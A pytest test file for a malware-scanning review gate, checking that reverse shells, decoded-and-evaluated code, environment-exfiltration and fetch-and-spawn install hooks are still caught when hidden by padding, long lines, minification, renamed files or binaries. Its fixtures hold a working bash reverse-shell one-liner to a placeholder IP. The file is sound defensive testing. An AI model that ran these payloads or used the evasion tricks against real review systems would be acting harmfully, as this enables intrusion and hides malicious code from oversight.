"""Attempts to evade the review by surrounding text, size or file names."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

import pytest
from tests.gate import NOW, Files, Gate, real_gate

from builderd.core.ids import BuilderId
from builderd.review.model import Acceptance, Severity

SHELL = "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"
PYTHON_SHELL = f"import os\nos.system('{SHELL}')\n"


@pytest.fixture(scope="module")
def gate() -> Iterator[Gate]:
    with real_gate() as made:
        yield made


def with_limit(gate: Gate, files: int) -> Gate:
    return replace(gate, policy=replace(gate.policy, limits=replace(gate.policy.limits, files=files)))


def test_many_text_files_do_not_hide_code(gate: Gate) -> None:
    texts = {f"a/{number}.txt": "x" for number in range(20)}
    seen = with_limit(gate, 5).review({**texts, "z.py": PYTHON_SHELL}, "python3 z.py")
    assert not seen.verdict.passed
    assert "MAL-reverse-shell" in seen.rules(Severity.BLOCK)
    assert seen.of("RSK-size") == []


def test_code_over_the_limits_is_held_and_unread_files_named(gate: Gate) -> None:
    scripts = {f"a/{number}.js": "" for number in range(4)}
    seen = with_limit(gate, 2).review({**scripts, "z.py": PYTHON_SHELL}, "python3 z.py")
    (held,) = seen.verdict.open
    assert (held.rule, held.acceptable) == ("RSK-size", True)
    assert "1 were not read, z.py among them" in held.message


LONG = "x" * 1_100
HIDDEN = "eval(atob('MQ=='));"
BLOCKED = {
    "a shell script's long line": ({"run.sh": f"{SHELL} # {LONG}\n"}, "sh run.sh", "MAL-reverse-shell"),
    "a long line elsewhere in the file": (
        {"app.js": f"const data = '{LONG}';\nconst code = atob('MQ==');\neval(code);\n"},
        "node app.js",
        "MAL-decoded-executed",
    ),
    "the end of a long string": (
        {"app.py": f"import os\nos.system({'x' * 30_000 + ' ' + SHELL!r})\n"},
        "python3 app.py",
        "MAL-reverse-shell",
    ),
    "long bytes": (
        {"app.py": f"import os\nos.system({('x' * 30_000 + ' ' + SHELL).encode()!r})\n"},
        "python3 app.py",
        "MAL-reverse-shell",
    ),
    "the last of many strings": (
        {"app.py": f"import os\nnames = {[f'{number:08}' for number in range(20_001)]}\nos.system({SHELL!r})\n"},
        "python3 app.py",
        "MAL-reverse-shell",
    ),
}


@pytest.mark.parametrize(("files", "entrypoint", "rule"), BLOCKED.values(), ids=BLOCKED)
def test_long_lines_and_files_do_not_hide_code(gate: Gate, files: Files, entrypoint: str, rule: str) -> None:
    assert rule in gate.review(files, entrypoint).rules(Severity.BLOCK)


@pytest.mark.parametrize(
    "code", [HIDDEN, "payload=atob('MQ==');eval(payload);", "all=process.env;net.send(all);"], ids=str
)
def test_blocking_rule_holds_in_a_minified_line(gate: Gate, code: str) -> None:
    seen = gate.review({"app.js": f"{code}var data='{LONG}';"}, "node app.js")
    assert [(finding.rule, finding.severity) for finding in seen.verdict.open] == [("RSK-minified", Severity.HOLD)]


def test_short_names_of_a_minifier_are_ignored(gate: Gate) -> None:
    code = f"var e=process.env;function f(e){{s.send(e)}}var t=atob('MQ==');function g(t){{new Function(t)}}'{LONG}';"
    assert gate.review({"app.js": code}, "node app.js").verdict.passed


def test_lone_surrogate_does_not_block(gate: Gate) -> None:
    assert gate.review({"app.py": "PATTERN = '[\\ud800-\\udfff] and more'\n"}).verdict.passed


UNNAMED = {
    "as data": ({"app.dat": PYTHON_SHELL}, "python3 app.dat"),
    "as a text": ({"app.txt": PYTHON_SHELL}, "exec python3 -u app.txt"),
    "without an ending": ({"start": SHELL}, "sh start"),
    "in a shell of its own": ({"start": SHELL}, "bash -lc 'cd . && sh start'"),
    "by a package's script": ({"package.json": '{"scripts": {"start": "sh start"}}', "start": SHELL}, "npm start"),
    "for Node": ({"app.dat": "eval(atob('MQ=='))"}, "node app.dat"),
    "with an argument that looks like another program": (
        {"app.py": PYTHON_SHELL},
        "python3 app.py sh app.py",
    ),
}


@pytest.mark.parametrize(("files", "entrypoint"), UNNAMED.values(), ids=UNNAMED)
def test_started_file_is_scanned_under_any_name(gate: Gate, files: Files, entrypoint: str) -> None:
    assert any(rule.startswith("MAL-") for rule in gate.review(files, entrypoint).rules(Severity.BLOCK))


OPAQUE: dict[str, tuple[Files, str]] = {
    "compiled Python": ({"payload.pyc": b"\xf3\r\r\n\0\0\0\0"}, "python3 payload.pyc"),
    "compiled Python that is shipped along": ({"app.py": "1", "payload.pyc": b"\xf3\r\r\n"}, "python3 app.py"),
    "an archive": ({"app.dat": b"PK\x03\x04\0"}, "python3 app.dat"),
    "a Java archive": ({"app.jar": b"PK\x03\x04\0"}, "java -jar app.jar"),
    "WebAssembly that is loaded": (
        {"app.js": "require('fs').readFileSync('x.wasm')", "x.wasm": b"\0asm\1\0\0\0"},
        "node app.js",
    ),
    "a script with NUL bytes": ({"start": b"b\0ash -i >& /dev/t\0cp/1.2.3.4/4444"}, "sh start"),
}


@pytest.mark.parametrize(("files", "entrypoint"), OPAQUE.values(), ids=OPAQUE)
def test_unreadable_program_is_held(gate: Gate, files: Files, entrypoint: str) -> None:
    held = gate.review(files, entrypoint).verdict.open
    assert [(finding.rule, finding.severity) for finding in held] == [("RSK-binary", Severity.HOLD)]


def test_data_files_are_not_held(gate: Gate) -> None:
    data = {"a.db": b"SQLite format 3\0", "a.zip": b"PK\x03\x04\0", "static/a.wasm": b"\0asm\1\0\0\0"}
    cache = {"__pycache__/app.cpython-313.pyc": b"\xf3\r\r\n\0\0\0\0time"}
    app = {"app.py": "open('a.db')\n", "start.sh": "exec datasette ./a.db\n"}
    for entrypoint in ("python3 app.py a.zip", "cd . && python3 app.py", "datasette ./a.db", "sh start.sh"):
        assert gate.review({**data, **cache, **app}, entrypoint).verdict.passed


def test_accepted_install_script_is_bound_to_its_content(gate: Gate) -> None:
    package = '{"scripts": {"postinstall": "node setup.js"}}'
    setup = "fetch('https://example.com/x').then((code) => spawn(code));\n"
    (blocked,) = gate.review({"app.js": "1", "package.json": package, "setup.js": setup}, "node app.js").verdict.open
    assert (blocked.rule, blocked.path, blocked.line) == ("MAL-install-hook", "setup.js", 0)
    accepted = [Acceptance(BuilderId("b"), blocked.fingerprint, "it is meant", "an admin", NOW)]
    for files, passed in ((setup, True), (f"{setup}more();\n", False)):
        seen = gate.review({"app.js": "1", "package.json": package, "setup.js": files}, "node app.js", accepted)
        assert seen.verdict.passed is passed
